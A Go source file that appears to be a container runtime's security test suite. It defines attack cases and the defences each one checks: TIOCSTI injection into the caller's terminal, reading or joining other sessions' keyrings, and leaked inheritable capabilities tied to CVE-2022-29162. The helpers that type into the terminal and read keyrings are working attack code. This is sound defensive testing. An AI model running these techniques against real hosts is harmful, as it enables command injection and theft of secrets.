package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	goruntime "runtime"
	"strings"
	"syscall"
	"time"

	"github.com/rtcontainers/rt/internal/defence"
	"golang.org/x/sys/unix"
)

// What a process inherits from its caller.

var sessionAttacks = []attack{
	{
		name:     "tiocsti",
		about:    "a container without a terminal of its own types commands into the terminal of the caller",
		kinds:    []string{"TIOCSTI"},
		defences: []defence.Name{defence.NewSession},
		mount:    func(t *try) string { return t.typedInto(t.attacker("type-into"), "run") },
	},
	{
		name:     "tiocsti-exec",
		about:    "the same by a process of exec",
		kinds:    []string{"TIOCSTI"},
		defences: []defence.Name{defence.NewSession},
		mount: func(t *try) string {
			b := t.script("sleep 100")
			b.start()
			return t.typedInto(b, "exec")
		},
	},
	{
		name:     "keyring-host",
		about:    "a container reads a key in the session keyring of the caller",
		kinds:    []string{"keyrings"},
		defences: []defence.Name{defence.Keyring},
		mount: func(t *try) string {
			t.ownKeyring()
			t.must(keyAdd(nil))
			b := t.attacker("key-read")
			b.spec.Linux.MaskedPaths = nil
			return tell(b.run(), secret, "read a key of the host")
		},
	},
	{
		name:     "keyring-neighbour",
		about:    "a container reads a key of another one, of the same user",
		kinds:    []string{"keyrings"},
		defences: []defence.Name{defence.Keyring},
		mount: func(t *try) string {
			t.ownKeyring()
			a := t.bundle("sh", "-c", "/bin/attacker key-add && touch /added; sleep 100")
			a.start()
			t.await("the key", func() bool { return fileExists(a.root("added")) })
			return tell(t.attacker("key-read").run(), secret, "read a key of another container")
		},
	},
	{
		name:     "keyring-by-name",
		about:    "a container joins the session keyring of another one, whose id it knows, by its name, or one that it sees in /proc/keys",
		kinds:    []string{"keyrings"},
		defences: []defence.Name{defence.KeyringName},
		mount: func(t *try) string {
			t.ownKeyring()
			a := t.bundle("sh", "-c", "/bin/attacker key-add && touch /added; sleep 100")
			a.start()
			t.await("the key", func() bool { return fileExists(a.root("added")) })
			b := t.attacker("key-join", "_ses."+a.id)
			b.spec.Linux.MaskedPaths = nil
			return tell(b.run(), secret, "read a key of another container")
		},
	},
	{
		name:     "inheritable-capabilities",
		about:    "a process gets inheritable capabilities that its configuration does not have",
		kinds:    []string{"CVE-2022-29162"},
		defences: []defence.Name{defence.InheritableCapabilities},
		mount: func(t *try) string {
			b := t.script("sleep 100")
			b.start()
			for _, r := range []result{
				b.exec("sh", "-c", "grep CapInh /proc/1/status"),
				b.do("exec", "--cap", "CAP_NET_RAW", b.id, "grep", "CapInh", "/proc/self/status"),
			} {
				if set := strings.TrimSpace(strings.TrimPrefix(r.stdout, "CapInh:")); set != "" && strings.Trim(set, "0") != "" {
					return "inheritable: " + set
				}
			}
			return ""
		},
	},
}

// typedInto runs a container in a terminal of the caller's and reads what was typed
// there.
func (t *try) typedInto(b *bundle, command string) string {
	master, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	t.must(err)
	defer unix.Close(master)
	t.must(unix.IoctlSetPointerInt(master, unix.TIOCSPTLCK, 0))
	n, err := unix.IoctlGetInt(master, unix.TIOCGPTN)
	t.must(err)
	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	t.must(err)
	defer slave.Close()
	b.save()
	var cmd *exec.Cmd
	if command == "run" {
		cmd = b.command("run", "--bundle", b.dir, b.id)
	} else {
		cmd = b.command("exec", b.id, "/bin/"+attackerName, "type-into")
	}
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	t.must(cmd.Start())
	ended := make(chan error, 1)
	go func() { ended <- cmd.Wait() }()
	select {
	case <-ended:
	case <-time.After(5 * time.Second):
		_ = cmd.Process.Kill()
	}
	buffer := make([]byte, 4096)
	printed, _ := unix.Read(master, buffer)
	t.logf("printed: %s", shorten(string(buffer[:max(0, printed)])))
	fd := int(slave.Fd())
	t.must(unix.SetNonblock(fd, true))
	size, _ := unix.Read(fd, buffer)
	if size > 0 && strings.Contains(string(buffer[:size]), typed) {
		return "typed into the caller's terminal: " + strings.TrimSpace(string(buffer[:size]))
	}
	return ""
}

// typed is what an attacker types.
const typed = "attacked"

func typeInto([]string) error {
	for _, c := range []byte(typed + "\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, pointer(&c)); errno != 0 {
			return fmt.Errorf("TIOCSTI: %w", errno)
		}
	}
	return nil
}

// ownKeyring gives the attack its own session keyring, which all commands that it starts
// inherit.
func (t *try) ownKeyring() {
	goruntime.LockOSThread()
	_, err := unix.KeyctlJoinSessionKeyring(keyName)
	t.must(err)
}

const keyName = "rt-attack"

func keyAdd([]string) error {
	id, err := unix.AddKey("user", keyName, []byte(secret), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		return fmt.Errorf("add_key: %w", err)
	}
	const everything = 0x3f3f3f3f
	return unix.KeyctlSetperm(id, everything)
}

// keyJoin tries to become the possessor of keyrings: by a name, and by all visible names
// with this prefix.
func keyJoin(args []string) error {
	names := []string{args[0]}
	for line := range strings.Lines(read("/proc/keys")) {
		for _, field := range strings.Fields(line) {
			if strings.HasPrefix(field, args[0]) {
				names = append(names, strings.TrimSuffix(field, ":"))
			}
		}
	}
	var errs []error
	for _, name := range names {
		if _, err := unix.KeyctlJoinSessionKeyring(name); err != nil {
			return fmt.Errorf("join %s: %w", name, err)
		}
		err := keyRead(nil)
		if err == nil {
			return nil
		}
		errs = append(errs, fmt.Errorf("%s: %w", name, err))
	}
	return errors.Join(errs...)
}

func keyRead([]string) error {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", keyName, 0)
	if err != nil {
		return fmt.Errorf("keyctl: %w", err)
	}
	buffer := make([]byte, 100)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buffer, len(buffer))
	if err != nil {
		return err
	}
	fmt.Println(string(buffer[:n]))
	return nil
}
